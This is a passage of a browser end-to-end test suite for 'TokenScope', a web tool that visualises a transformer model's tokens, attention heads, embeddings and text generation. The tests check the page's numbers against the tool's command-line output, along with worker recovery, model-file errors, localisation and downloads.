// The page in headless Chromium: it loads the embedded model from its own origin, opens the
// view a link describes, and every number it shows agrees with `tokenscope inspect`.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { serve } from './serve.mjs';
import {
  ROOT, SHOTS, CELEBRATION, POLITICS, VIEWS, GPT_VIEWS, CLI, session, allViews, link, openPage,
  ready, settle, inspect, chips, readTable, assertMatrix, cosine,
} from './helpers.mjs';

test('a link opens exactly its view, and the numbers are the CLI\'s', async () => {
  const { page, problems, foreign, context } = await openPage(
    link({ a: CELEBRATION, b: POLITICS, layer: 2, head: 5, view: 'head' }),
  );
  const a = inspect(CELEBRATION);
  const b = inspect(POLITICS);
  assert.deepEqual((await chips(page, 'a')).map((c) => c.id), [101, 2493, 8439, 1996, 7665, 2007, 1037, 2502, 2283, 102]);
  assert.deepEqual(await chips(page, 'a'), a.ids.map((id, i) => ({ id, text: a.tokens[i] })));
  assert.deepEqual(await chips(page, 'b'), b.ids.map((id, i) => ({ id, text: b.tokens[i] })));
  assert.equal(await page.inputValue('#layer'), '2');
  assert.equal(await page.inputValue('#head'), '5');
  assert.equal(await page.getAttribute('nav.tabs button[data-view=head]', 'aria-selected'), 'true');
  assert.ok(await page.isVisible('#canvas-head-a'));
  assertMatrix(await readTable(page, '[data-testid=attention-table][data-sentence=a]'), a.attentions[2][5], 'A, layer 2, head 5');
  assertMatrix(await readTable(page, '[data-testid=attention-table][data-sentence=b]'), b.attentions[2][5], 'B, layer 2, head 5');
  assert.equal(page.workers().length, 1, 'the model runs in a Web Worker, not on the page');
  assert.ok(session.server.requests.includes('/models/all-MiniLM-L6-v2/model.safetensors'));
  assert.deepEqual(problems, []);
  assert.deepEqual(foreign, [], 'no request leaves the page origin');
  await context.close();
});

test('the worker build follows the browser: relaxed SIMD here, plain SIMD where it is missing, the same numbers from both', async () => {
  const url = link({ a: CELEBRATION, b: '', layer: 2, head: 5, view: 'head' });
  const expected = inspect(CELEBRATION).attentions[2][5];
  // This Chromium validates relaxed SIMD, so the loader starts the fused build and says so.
  const fused = await openPage(url);
  assert.match(await fused.page.textContent('#model-memory'), /fused multiply-add \(relaxed SIMD\), one thread/);
  assertMatrix(await readTable(fused.page, '[data-testid=attention-table][data-sentence=a]'), expected, 'relaxed SIMD build');
  assert.deepEqual(fused.problems, []);
  await fused.context.close();
  // A browser without relaxed SIMD (Safari) gets the plain build: served here in place of
  // the loader's choice, as the loader itself would pick it there.
  const context = await session.browser.newContext({ viewport: { width: 1280, height: 720 } });
  await context.route('**/worker-loader.js', (route) => route.fulfill({
    contentType: 'text/javascript',
    body: "importScripts('./tokenscope-worker.js');\nwasm_bindgen({ module_or_path: './tokenscope-worker_bg.wasm' });\n",
  }));
  const page = await context.newPage();
  const problems = [];
  page.on('pageerror', (e) => problems.push(String(e)));
  await page.goto(url);
  await ready(page);
  assert.match(await page.textContent('#model-memory'), /WebAssembly SIMD, one thread \(this browser has no relaxed SIMD\)/);
  assertMatrix(await readTable(page, '[data-testid=attention-table][data-sentence=a]'), expected, 'plain SIMD build');
  assert.ok(session.server.requests.includes('/tokenscope-worker_bg.wasm'));
  assert.ok(session.server.requests.includes('/tokenscope-worker-relaxed_bg.wasm'));
  assert.deepEqual(problems, []);
  await context.close();
});

test('on a cross-origin isolated page the worker computes on a pool of threads, with the CLI\'s numbers', async () => {
  // `trunk serve` and the bench send these headers; a plain static server does not.
  const isolated = await serve(join(ROOT, 'dist'), {
    headers: { 'cross-origin-opener-policy': 'same-origin', 'cross-origin-embedder-policy': 'require-corp' },
  });
  const context = await session.browser.newContext({ viewport: { width: 1280, height: 720 } });
  try {
    const page = await context.newPage();
    const problems = [];
    // The loader warns when the threads build cannot start and one thread takes over.
    const fellBack = (m) => m.type() === 'warning' && /TokenScope/.test(m.text());
    page.on('console', (m) => { if (m.type() === 'error' || fellBack(m)) problems.push(m.text()); });
    page.on('pageerror', (e) => problems.push(String(e)));
    // Long enough that attention, not only the products, is split between threads.
    const long = Array.from({ length: 6 }, () => POLITICS).join(' and ');
    const url = (params) => `${isolated.url}?${new URLSearchParams(params)}`;
    await page.goto(url({ a: CELEBRATION, b: long, layer: 2, head: 5, view: 'head' }));
    await ready(page);
    assert.equal(await page.evaluate(() => crossOriginIsolated), true);
    const cores = await page.evaluate(() => Math.min(navigator.hardwareConcurrency, 8));
    const memory = await page.textContent('#model-memory');
    // This Chromium validates relaxed SIMD: the threads build with fused multiply-add.
    if (cores >= 2) {
      assert.match(memory, new RegExp(`fused multiply-add \\(relaxed SIMD\\) on ${cores} threads \\(a cross-origin isolated page\\)`));
      assert.ok(isolated.requests.includes('/thread-loader.js'), 'the pool\'s threads started');
    } else {
      assert.match(memory, /one thread/);
    }
    assert.ok(isolated.requests.includes('/tokenscope-worker-threads-relaxed_bg.wasm'));
    assert.ok(!isolated.requests.includes('/tokenscope-worker-relaxed_bg.wasm'), 'no second build fetched');
    assertMatrix(await readTable(page, '[data-testid=attention-table][data-sentence=a]'), inspect(CELEBRATION).attentions[2][5], 'A on threads');
    const b = inspect(long);
    assert.ok(b.ids.length > 50, `${b.ids.length} tokens`);
    assertMatrix(await readTable(page, '[data-testid=attention-table][data-sentence=b]'), b.attentions[2][5], 'B on threads');
    // Generation with the KV cache at the page's default sampling settings (the CLI's below),
    // its clock read on a pool thread: the CLI's text.
    const gpt = join(ROOT, 'assets', 'models', 'tokenscope-gpt');
    await page.goto(url({ view: 'generate', model: 'models/tokenscope-gpt', a: 'students celebrate the graduation with a big', b: '' }));
    await ready(page);
    await page.fill('#gen-max', '8');
    await page.dispatchEvent('#gen-max', 'change');
    await page.click('#gen-run');
    await page.waitForSelector('[data-testid=gen-speed]', { timeout: 60_000 });
    const cli = JSON.parse(execFileSync(CLI, ['generate', '--model', gpt, '--text', 'students celebrate the graduation with a big',
      '--max-tokens', '8', '--temperature', '0.8', '--top-k', '40', '--top-p', '0.95', '--seed', '0', '--json']).toString());
    assert.equal(await page.textContent('[data-testid=gen-text]'), cli.text);
    const rate = Number(await page.getAttribute('[data-testid=gen-speed]', 'data-tokens-per-second'));
    assert.ok(rate > 0 && rate < 1e5, `a real rate: ${rate}`);
    // An isolated Safari gets the plain threads build: served here in place of the loader's
    // choice, as the loader itself would pick it there.
    const plain = await context.newPage();
    plain.on('pageerror', (e) => problems.push(String(e)));
    await context.route('**/worker-loader.js', (route) => route.fulfill({
      contentType: 'text/javascript',
      // An isolated page runs a worker only from a script that opts in too.
      headers: { 'cross-origin-embedder-policy': 'require-corp' },
      body: "importScripts('./tokenscope-worker-threads.js');\nwasm_bindgen({ module_or_path: './tokenscope-worker-threads_bg.wasm' });\n",
    }));
    await plain.goto(url({ a: long, b: '', layer: 2, head: 5, view: 'head' }));
    await ready(plain);
    if (cores >= 2) assert.match(await plain.textContent('#model-memory'), new RegExp(`WebAssembly SIMD on ${cores} threads`));
    assertMatrix(await readTable(plain, '[data-testid=attention-table][data-sentence=a]'), b.attentions[2][5], 'plain threads build');
    assert.deepEqual(problems, []);
  } finally {
    await context.close();
    await isolated.close();
  }
});

test('"party" attends to "celebrate" in A and "deputy" in B, and the link keeps the selection', async () => {
  const { page, context, problems } = await openPage(link({ a: CELEBRATION, b: POLITICS, view: 'head' }));
  // The default selection is the last word of A: "party", and B follows it on the same word.
  assert.equal(await page.getAttribute('[data-testid=token][data-sentence=a].selected', 'data-id'), '2283');
  assert.equal(await page.getAttribute('#canvas-head-a', 'data-focus'), '8');
  assert.equal(await page.getAttribute('#canvas-head-b', 'data-focus'), '8');
  // Layer 0, averaged over the heads as the seed does: party's strongest partner.
  const strongest = (trace) => {
    const heads = trace.attentions[0];
    const row = heads[0][8].map((_, k) => heads.reduce((s, h) => s + h[8][k], 0) / heads.length);
    const candidates = row.map((p, k) => [p, k]).filter(([, k]) => k !== 8 && k !== 0 && k !== row.length - 1);
    return trace.tokens[candidates.sort((x, y) => y[0] - x[0])[0][1]];
  };
  assert.equal(strongest(inspect(CELEBRATION)), 'celebrate');
  assert.equal(strongest(inspect(POLITICS)), 'deputy');
  // The page says it in words, from its own numbers.
  assert.match(await page.textContent('#attends p[data-sentence=a]'), /“party” → celebrate 0\.\d{3}/);
  assert.match(await page.textContent('#attends p[data-sentence=b]'), /“party” → deputy 0\.\d{3}/);
  // Arrow keys move the selection and the URL follows.
  await page.click('body', { position: { x: 5, y: 5 } });
  await page.keyboard.press('ArrowLeft');
  await page.waitForFunction(() => new URL(location.href).searchParams.get('token') === '7');
  assert.equal(await page.getAttribute('#canvas-head-a', 'data-focus'), '7');
  const shared = page.url();
  const again = await openPage(shared);
  assert.equal(await again.page.getAttribute('[data-testid=token].selected', 'data-index'), '7');
  assert.deepEqual(problems, []);
  await again.context.close();
  await context.close();
});

test('heads toggle, solo, and hovering a token shows only its lines', async () => {
  const { page, context, problems } = await openPage(link({ a: CELEBRATION, b: POLITICS, view: 'head', layer: 1 }));
  assert.equal(await page.getAttribute('#canvas-head-a', 'data-heads'), '0,1,2,3,4,5,6,7,8,9,10,11');
  await page.click('#head-swatches button[data-head="3"]');
  await page.waitForFunction(() => document.querySelector('#canvas-head-a').dataset.heads === '0,1,2,4,5,6,7,8,9,10,11');
  assert.equal(await page.getAttribute('#head-swatches button[data-head="3"]', 'aria-pressed'), 'false');
  await page.dblclick('#head-swatches button[data-head="5"]');
  await page.waitForFunction(() => document.querySelector('#canvas-head-a').dataset.heads === '5');
  assert.equal(await page.inputValue('#head'), '5', 'the soloed head becomes the current head');
  const a = inspect(CELEBRATION);
  assertMatrix(await readTable(page, '[data-testid=attention-table][data-sentence=a]'), a.attentions[1][5], 'A, layer 1, head 5');
  await page.click('#head-swatches button[data-head="all"]');
  await page.waitForFunction(() => document.querySelector('#canvas-head-a').dataset.heads.split(',').length === 12);
  // Hover a chip: its lines only; leave: back to the selection.
  await page.hover('[data-testid=token][data-sentence=a][data-index="2"]');
  await page.waitForFunction(() => document.querySelector('#canvas-head-a').dataset.focus === '2');
  await page.mouse.move(5, 5);
  await page.waitForFunction(() => document.querySelector('#canvas-head-a').dataset.focus === '8');
  // Show every token's lines.
  await page.check('#all-lines');
  await page.waitForFunction(() => document.querySelector('#canvas-head-a').dataset.focus === '');
  assert.deepEqual(problems, []);
  await context.close();
});

test('pair mode runs [CLS] A [SEP] B [SEP] and the filter picks A→B', async () => {
  const { page, context, problems } = await openPage(
    link({ a: CELEBRATION, b: POLITICS, pair: 1, layer: 3, head: 7, view: 'head' }),
  );
  const pair = inspect(CELEBRATION, { pair: POLITICS, fields: 'ids,tokens,type_ids,attentions' });
  const shown = [...await chips(page, 'a'), ...await chips(page, 'b')];
  assert.deepEqual(shown.map((c) => c.id), pair.ids, 'the chips are exactly the pair\'s ids');
  assert.deepEqual(shown.map((c) => c.text), pair.tokens);
  assert.equal((await chips(page, 'b')).length, pair.type_ids.filter((t) => t === 1).length);
  assert.equal(await page.$$eval('[data-testid=attention-table]', (ts) => ts.map((t) => t.dataset.sentence).join()), 'pair');
  assertMatrix(await readTable(page, '[data-testid=attention-table][data-sentence=pair]'), pair.attentions[3][7], 'pair, layer 3, head 7');
  const s = pair.ids.length;
  assert.equal(await page.getAttribute('#canvas-head-pair', 'data-queries'), String(s));
  await page.selectOption('#pair-filter', 'ab');
  const aCount = pair.type_ids.filter((t) => t === 0).length;
  await page.waitForFunction((n) => document.querySelector('#canvas-head-pair').dataset.queries === String(n), aCount);
  assert.equal(await page.getAttribute('#canvas-head-pair', 'data-keys'), String(s - aCount));
  assert.match(page.url(), /filter=ab/);
  // Choosing a filter without pair mode switches pair mode on.
  const separate = await openPage(link({ a: CELEBRATION, b: POLITICS, view: 'head' }));
  await separate.page.selectOption('#pair-filter', 'ba');
  await separate.page.waitForSelector('#canvas-head-pair[data-queries]');
  assert.ok(await separate.page.isChecked('#pair'));
  assert.deepEqual(problems, []);
  assert.deepEqual(separate.problems, []);
  await separate.context.close();
  await context.close();
});

test('typing updates every view live, and the HTML in a sentence stays text', async () => {
  const { page, context, problems } = await openPage(link({ view: 'head', layer: 4, head: 2 }));
  for (const text of ['Tim chased clouds all his life', '<b>bold</b> 派对 🎉']) {
    await page.fill('#sentence-a', text);
    const expected = inspect(text);
    await page.waitForFunction(
      (ids) => [...document.querySelectorAll('[data-testid=token][data-sentence=a]')].map((e) => Number(e.dataset.id)).join() === ids.join(),
      expected.ids,
    );
    await settle(page);
    assert.deepEqual((await chips(page, 'a')).map((c) => c.text), expected.tokens, 'tokens are shown as text');
    assertMatrix(await readTable(page, '[data-testid=attention-table][data-sentence=a]'), expected.attentions[4][2], text);
  }
  assert.equal(await page.$$eval('#tokens-a b', (els) => els.length), 0);
  assert.match(page.url(), /a=%3Cb%3Ebold/);
  // An empty B means one sentence.
  await page.fill('#sentence-b', '');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=token][data-sentence=b]').length === 0);
  await settle(page);
  assert.equal(await page.$$eval('[data-testid=attention-table]', (ts) => ts.length), 1);
  assert.deepEqual(problems, []);
  await context.close();
});

test('text longer than the views can draw gives a clear message, and the tokens still show', async () => {
  const { page, context, problems } = await openPage(link({ b: '', view: 'head' }));
  // 102 tokens: the heatmap is drawn, and its 102 × 102 numbers are built once asked for.
  await page.fill('#sentence-a', 'word '.repeat(100));
  await page.waitForSelector('[data-testid=attention-table-later]', { state: 'attached' });
  assert.equal(await page.$$eval('[data-testid=attention-table]', (ts) => ts.length), 0);
  await page.click('#attention-numbers summary');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=attention-table][data-sentence=a] tbody tr').length === 102);
  await page.click('#attention-numbers summary');
  await page.waitForSelector('[data-testid=attention-table-later]', { state: 'attached' });
  await page.fill('#sentence-a', 'word '.repeat(300));
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=token][data-sentence=a]').length === 302);
  await settle(page);
  assert.equal(await page.$$eval('[data-testid=attention-table]', (ts) => ts.length), 0);
  assert.equal(await page.getAttribute('#canvas-head-a', 'data-drawn'), '1', 'the canvas says why it is empty');
  assert.ok(!(await page.getAttribute('#status', 'class') ?? '').includes('error'));
  // Only the view on screen is rebuilt at a keystroke; the ids view says it when opened.
  await page.click('nav.tabs button[data-view=tokens]');
  assert.match(await page.textContent('#ids-list'), /too long for the views/);
  await page.click('nav.tabs button[data-view=head]');
  // Back to a short text: every view returns.
  await page.fill('#sentence-a', CELEBRATION);
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=attention-table]').length === 1);
  assert.deepEqual(problems, []);
  await context.close();
});

test('100,000 characters: the text is kept whole, and a notice says how many tokens each model kept', async () => {
  const { page, context, problems } = await openPage(link({ b: '', view: 'tokens' }));
  // "party" is one token of MiniLM's vocabulary: 16,667 of them plus [CLS] and [SEP].
  const long = 'party '.repeat(16_667).slice(0, 100_000);
  const started = Date.now();
  await page.fill('#sentence-a', long);
  await page.waitForFunction(() => !document.querySelector('#text-notice').hidden, null, { timeout: 60_000 });
  await settle(page);
  console.log(`100,000 characters to the notice on screen: ${Date.now() - started} ms (MiniLM)`);
  assert.equal(await page.$eval('#sentence-a', (t) => t.value.length), 100_000, 'the textarea keeps all of it');
  assert.equal(
    await page.textContent('#text-notice'),
    'Sentence A is longer than the model\'s 512 positions: 512 tokens kept, 16,157 dropped.',
  );
  assert.equal(await page.$$eval('[data-testid=token][data-sentence=a]', (els) => els.length), 512);
  await page.screenshot({ path: join(SHOTS, 'long-text-notice.png') });
  // The embedded GPT sees 64 positions; the same text gets its own count.
  await page.selectOption('#model-pick', 'models/tokenscope-gpt');
  await page.waitForFunction(() => /64 positions: 64 tokens kept/.test(document.querySelector('#text-notice').textContent), null, { timeout: 60_000 });
  await settle(page);
  const gptNotice = await page.textContent('#text-notice');
  const dropped = Number(gptNotice.match(/64 tokens kept, ([\d,]+) dropped/)[1].replaceAll(',', ''));
  assert.ok(dropped > 16_000, gptNotice);
  // A short text again: the notice goes away.
  await page.fill('#sentence-a', CELEBRATION);
  await page.waitForFunction(() => document.querySelector('#text-notice').hidden);
  assert.deepEqual(problems, []);
  await context.close();
});

test('a worker that dies is restarted with a message, and the sentences survive', async () => {
  const { page, context, problems } = await openPage(link({ b: POLITICS, view: 'tokens' }));
  const mine = 'my own sentence about a party';
  await page.fill('#sentence-a', mine);
  await settle(page);
  const before = await chips(page, 'a');
  // An uncaught error inside the worker, as a panic or a trap in its wasm would give.
  const [worker] = page.workers();
  await worker.evaluate(() => setTimeout(() => { throw new Error('deliberate test crash'); }, 0));
  await page.waitForFunction(() => /restarted/.test(document.querySelector('#status').textContent));
  await ready(page);
  const status = await page.textContent('#status');
  assert.match(status, /The model worker failed: .*deliberate test crash.* restarted and the model reloaded; your sentences are kept/);
  assert.equal(await page.inputValue('#sentence-a'), mine);
  assert.equal(await page.inputValue('#sentence-b'), POLITICS);
  assert.deepEqual(await chips(page, 'a'), before, 'the new worker gives the same tokens');
  for (let i = 0; i < 50 && page.workers().length !== 1; i++) await page.waitForTimeout(100);
  assert.equal(page.workers().length, 1, 'the dead worker was terminated');
  // And it keeps working.
  await page.fill('#sentence-a', CELEBRATION);
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=token][data-sentence=a]').length === 10);
  await page.screenshot({ path: join(SHOTS, 'worker-restarted.png') });
  assert.deepEqual(problems.filter((p) => !/deliberate test crash/.test(p)), []);
  await context.close();
});

test('the similarity table is the cosine of the CLI\'s vectors: static 1.0, contextual lower', async () => {
  const { page, context, problems } = await openPage(link({ a: CELEBRATION, b: POLITICS, view: 'similarity' }));
  const fields = 'tokens,embeddings.word,hidden_states';
  const a = inspect(CELEBRATION, { fields });
  const b = inspect(POLITICS, { fields });
  const expect = (va, vb) => va.map((x) => vb.map((y) => cosine(x, y)));
  let table = await readTable(page, '[data-testid=similarity-table]');
  assert.deepEqual(table.rows, a.tokens);
  assert.deepEqual(table.cols, b.tokens);
  assertMatrix(table, expect(a.embeddings.word, b.embeddings.word), 'static');
  assert.equal(table.cells[8][8], '1.0000', 'party·party on static embeddings');
  const last = a.hidden_states.length - 1;
  await page.selectOption('#depth', String(last + 1));
  await page.waitForFunction((d) => document.querySelector('[data-testid=similarity-table]').dataset.depth === String(d), last + 1);
  table = await readTable(page, '[data-testid=similarity-table]');
  assertMatrix(table, expect(a.hidden_states[last], b.hidden_states[last]), 'after the last layer');
  assert.ok(Number(table.cells[8][8]) < 0.8, `contextual party·party ${table.cells[8][8]}`);
  assert.match(await page.textContent('#drift-text'), /party.*party.*0\.7386/);
  // The toy playground: the seed's numbers, then an edit.
  const toy = await readTable(page, '[data-testid=toy-table]');
  assert.equal(toy.cells[0][1], '0.9832');
  assert.equal(toy.cells[2][3], '0.1511');
  await page.fill('input[data-toy="1,0"]', '-0.6');
  await page.waitForFunction(() => document.querySelector('[data-testid=toy-table] tbody tr td:nth-of-type(2)').textContent !== '0.9832');
  assert.deepEqual(problems, []);
  await context.close();
});

test('every canvas has its numbers as text, and the position rows are the model\'s', async () => {
  for (const view of VIEWS) {
    const { page, context } = await openPage(link({ a: CELEBRATION, b: POLITICS, view }));
    await page.waitForSelector(`section.view[data-view=${view}] canvas[data-drawn="1"]`);
    // The canvases the model shows (a rotary model's rotation canvas is hidden for BERT).
    const canvases = await page.$$eval(`section.view[data-view=${view}] canvas`, (cs) => cs.filter((c) => c.checkVisibility()).map((c) => ({
      id: c.id,
      label: c.getAttribute('aria-label'),
      described: (c.getAttribute('aria-describedby') ?? '').split(' ').filter(Boolean)
        .map((id) => document.getElementById(id)?.textContent ?? null),
    })));
    assert.ok(canvases.length > 0, view);
    for (const c of canvases) {
      assert.equal(await page.getAttribute(`#${c.id}`, 'role'), 'img', c.id);
      assert.ok(c.label || c.described.length > 0, `${c.id} has a text alternative`);
      for (const text of c.described) {
        assert.ok(text !== null, `${c.id} points at an element that exists`);
        // BERT has no next-token numbers; its text alternative says why.
        assert.match(text, view === 'next' ? /does not predict/ : /\d/, `${c.id}'s text alternative carries numbers`);
      }
    }
    if (view === 'position') {
      const table = await readTable(page, '[data-testid=position-table]');
      const rows = inspect(CELEBRATION, { fields: 'embeddings.position,embeddings.word' }).embeddings;
      assertMatrix(table, rows.position, 'position rows');
      // The selected "party" (index 8): its word row, position row and their sum.
      const word = rows.word[8];
      const place = rows.position[8];
      assertMatrix(await readTable(page, '[data-testid=sum-table]'), [word, place, word.map((w, i) => w + place[i])], 'word + position');
    }
    await context.close();
  }
});

test('Chinese interface, dark theme, and PNG and SVG downloads', async () => {
  const { page, context, problems } = await openPage(link({ a: CELEBRATION, b: POLITICS, view: 'head' }));
  await page.selectOption('#lang', 'zh');
  await page.waitForFunction(() => document.documentElement.lang === 'zh-Hans');
  assert.match(await page.textContent('nav.tabs button[data-view=tokens]'), /词元/);
  assert.match(await page.textContent('#model-info'), /层/);
  assert.match(page.url(), /lang=zh/);
  await page.click('#theme');
  await page.waitForFunction(() => document.body.classList.contains('dark'));
  assert.match(page.url(), /theme=dark/);
  for (const format of ['png', 'svg']) {
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.click(`button[data-canvas="head-a"][data-download=${format}]`),
    ]);
    assert.equal(download.suggestedFilename(), `tokenscope-head-a.${format}`);
    const bytes = readFileSync(await download.path());
    if (format === 'png') {
      assert.deepEqual([...bytes.subarray(0, 4)], [0x89, 0x50, 0x4e, 0x47], 'a PNG file');
      assert.ok(bytes.length > 5000, `PNG of ${bytes.length} bytes`);
    } else {
      const svg = bytes.toString();
      assert.match(svg, /^<svg/);
      assert.match(svg, /celebrate/);
    }
  }
  assert.deepEqual(problems, []);
  await context.close();
});

test('a screenshot of every view, light and dark, English and Chinese', async () => {
  const first = await openPage();
  const views = await allViews(first.page);
  await first.context.close();
  assert.ok(views.length >= 11, `views: ${views}`);
  for (const [suffix, extra] of [['', {}], ['-dark-zh', { theme: 'dark', lang: 'zh' }]]) {
    for (const view of views) {
      // The generate and learning views are shown with the embedded GPT.
      const gpt = GPT_VIEWS.includes(view) ? { model: 'models/tokenscope-gpt', b: '' } : {};
      const { page, context, problems, foreign } = await openPage(
        link({ a: CELEBRATION, b: POLITICS, view, layer: 0, head: 0, ...extra, ...gpt }),
      );
      await page.waitForSelector(`section.view[data-view=${view}] canvas[data-drawn="1"]`);
      if (view === 'generate') {
        await page.click('#gen-run');
        await page.waitForSelector('[data-testid=generation-table]');
      }
      await page.screenshot({ path: join(SHOTS, `${view}${suffix}.png`), fullPage: true });
      assert.deepEqual(problems, [], view);
      assert.deepEqual(foreign, [], view);
      await context.close();
    }
  }
  const order = await openPage(link({ a: 'Tim chased clouds all his life', b: 'clouds chased Tim all his life', view: 'position' }));
  assert.match(await order.page.textContent('#order-text'), /tim: 1\.0000 →/);
  await order.page.screenshot({ path: join(SHOTS, 'position-word-order.png'), fullPage: true });
  await order.context.close();
});

test('a GPT-2 model opened from files: causal attention, next-token table equal to the CLI', async () => {
  const { page, context, problems, foreign } = await openPage(link({ view: 'next', b: '' }));
  const tiny = join(ROOT, 'tests', 'reference', 'fixtures', 'tiny-gpt2');
  await page.setInputFiles('#model-files', ['config.json', 'tokenizer.json', 'model.safetensors'].map((f) => join(tiny, f)));
  await page.waitForFunction(() => /gpt2/.test(document.querySelector('#model-info').textContent));
  await settle(page);
  assert.ok(await page.isDisabled('#pair'), 'no pair mode for GPT');
  assert.equal(await page.$eval('#model-pick', (s) => s.selectedOptions[0].textContent), 'your model', 'the picker names the opened model');
  const text = 'Hello, world! GPT models predict';
  await page.fill('#sentence-a', text);
  const cli = JSON.parse(execFileSync(existsSync(CLI) ? CLI : 'false', ['inspect', '--model', tiny, '--text', text, '--top', '10', '--fields', 'ids,tokens,attentions,next_token']).toString());
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid=token][data-sentence=a]').length === n, cli.ids.length);
  await settle(page);
  const raw = await page.$$eval('[data-testid=token][data-sentence=a]', (els) => els.map((e) => e.dataset.token));
  assert.deepEqual(raw, cli.tokens);
  const shown = await page.$$eval('[data-testid=token][data-sentence=a]', (els) => els.map((e) => e.textContent));
  assert.ok(shown.some((t) => t.startsWith('␣')), `a leading space is shown as ␣: ${shown}`);
  // The default selection is the last token: the table is the next token after the text.
  const next = await readTable(page, '[data-testid=next-token-table]');
  assert.equal(next.cells.length, 10);
  next.cells.forEach((row, r) => {
    assert.equal(Number(row[1]), cli.next_token.top[r].id, `rank ${r + 1}`);
    assert.ok(Math.abs(Number(row[2]) - cli.next_token.top[r].prob) <= 0.00005 + 1e-6, `rank ${r + 1} prob`);
  });
  // Attention: causal, future cells zero and marked.
  await page.click('nav.tabs button[data-view=head]');
  await page.waitForSelector('[data-testid=attention-table][data-sentence=a]', { state: 'attached' });
  assertMatrix(await readTable(page, '[data-testid=attention-table][data-sentence=a]'), cli.attentions[0][0], 'GPT layer 0 head 0');
  const masked = await page.$$eval('[data-testid=attention-table] td.masked', (tds) => tds.map((td) => td.textContent));
  const s = cli.ids.length;
  assert.equal(masked.length, (s * (s - 1)) / 2);
  assert.ok(masked.every((t) => t === '0.0000'));
  await page.click('nav.tabs button[data-view=next]');
  await page.waitForSelector('#canvas-next[data-drawn="1"]');
  await page.screenshot({ path: join(SHOTS, 'next-token-gpt2.png'), fullPage: true });
  // Files that do not fit: a message naming the problem, and the GPT model stays.
  await page.setInputFiles('#model-files', [join(tiny, 'config.json'), join(tiny, 'tokenizer.json')]);
  await page.waitForFunction(() => /model\.safetensors/.test(document.querySelector('#status').textContent));
  const asBuffer = (name, buffer) => ({ name, mimeType: 'application/octet-stream', buffer });
  await page.setInputFiles('#model-files', [
    asBuffer('config.json', readFileSync(join(tiny, 'config.json'))),
    asBuffer('tokenizer.json', readFileSync(join(tiny, 'tokenizer.json'))),
    asBuffer('model.safetensors', readFileSync(join(tiny, 'model.safetensors')).subarray(0, 5000)),
  ]);
  await page.waitForSelector('#status.error');
  assert.match(await page.textContent('#status'), /safetensors|truncated|damaged/i);
  assert.match(await page.textContent('#model-info'), /gpt2/);
  await page.fill('#sentence-a', 'the party');
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=token]')].some((e) => e.dataset.token === 'Ġparty'));
  // And back to the embedded model.
  await page.selectOption('#model-pick', '');
  await page.waitForFunction(() => /bert/.test(document.querySelector('#model-info').textContent));
  await settle(page);
  assert.ok(!(await page.isDisabled('#pair')));
  assert.deepEqual(problems, []);
  assert.deepEqual(foreign, []);
  await context.close();
});

test('step-by-step generation with a seed replays the CLI\'s tokens', async () => {
  const { page, context, problems } = await openPage(link({ view: 'generate', b: '' }));
  const tiny = join(ROOT, 'tests', 'reference', 'fixtures', 'tiny-gpt2');
  await page.setInputFiles('#model-files', ['config.json', 'tokenizer.json', 'model.safetensors'].map((f) => join(tiny, f)));
  await page.waitForFunction(() => /gpt2/.test(document.querySelector('#model-info').textContent));
  await settle(page);
  await page.fill('#sentence-a', 'the party');
  await settle(page);
  for (const [id, value] of [['#gen-temperature', '0.8'], ['#gen-top-k', '5'], ['#gen-top-p', '1'], ['#gen-seed', '2'], ['#gen-max', '12']]) {
    await page.fill(id, value);
    await page.dispatchEvent(id, 'change');
  }
  const cli = JSON.parse(execFileSync(CLI, ['generate', '--model', tiny, '--text', 'the party', '--max-tokens', '12',
    '--temperature', '0.8', '--top-k', '5', '--top-p', '1', '--seed', '2', '--json']).toString());
  const ids = () => page.$$eval('[data-testid=generation-table] tbody tr', (trs) => trs.map((tr) => Number(tr.querySelectorAll('td')[1].textContent)));
  await page.click('#gen-step');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=generation-table] tbody tr').length === 1);
  await page.click('#gen-step');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=generation-table] tbody tr').length === 2);
  assert.deepEqual(await ids(), cli.generated_ids.slice(0, 2), 'two steps are the first two tokens of the run');
  await page.click('#gen-run');
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid=generation-table] tbody tr').length === n, cli.generated_ids.length);
  assert.deepEqual(await ids(), cli.generated_ids);
  assert.equal(await page.textContent('[data-testid=gen-text]'), cli.text);
  const kept = await page.$$eval('[data-testid=generation-table] tbody tr', (trs) => trs.map((tr) => tr.querySelectorAll('td')[3].textContent));
  assert.deepEqual(kept, cli.steps.map((s) => String(s.kept)));
  assert.match(page.url(), /seed=2/);
  // The link restores the decoding settings.
  const again = await context.newPage();
  await again.goto(page.url());
  await ready(again);
  for (const [id, value] of [['#gen-temperature', '0.8'], ['#gen-top-k', '5'], ['#gen-top-p', '1'], ['#gen-seed', '2']]) {
    assert.equal(await again.inputValue(id), value, `${id} from the link`);
  }
  await again.close();
  await page.waitForSelector('#canvas-generate[data-drawn="1"]');
  await page.screenshot({ path: join(SHOTS, 'generate-gpt2.png'), fullPage: true });
  // A new seed is a new run.
  await page.fill('#gen-seed', '3');
  await page.dispatchEvent('#gen-seed', 'change');
  await page.waitForFunction(() => !document.querySelector('[data-testid=generation-table]'));
  assert.deepEqual(problems, []);
  await context.close();
});

test('a missing model file gives a clear message, not a frozen page', async () => {
  const broken = await serve(join(ROOT, 'dist'), {
    overrides: { '/models/all-MiniLM-L6-v2/model.safetensors': Buffer.from('not a model') },
  });
  const page = await session.browser.newPage();
  await page.goto(broken.url);
  await page.waitForSelector('#status.error', { timeout: 60_000 });
  assert.match(await page.textContent('#status'), /model\.safetensors/);
  await page.close();
  await broken.close();
});

test('each bad model file names its problem, and the page keeps its model and keeps working', async () => {
  const { page, context, problems, foreign } = await openPage(link({ view: 'tokens' }));
  assert.match(await page.textContent('[data-testid=model-memory]'), /weights in memory \d+\.\d MiB \(F32\) · model worker memory \d+/);
  const tiny = join(ROOT, 'tests', 'reference', 'fixtures', 'tiny-gpt2');
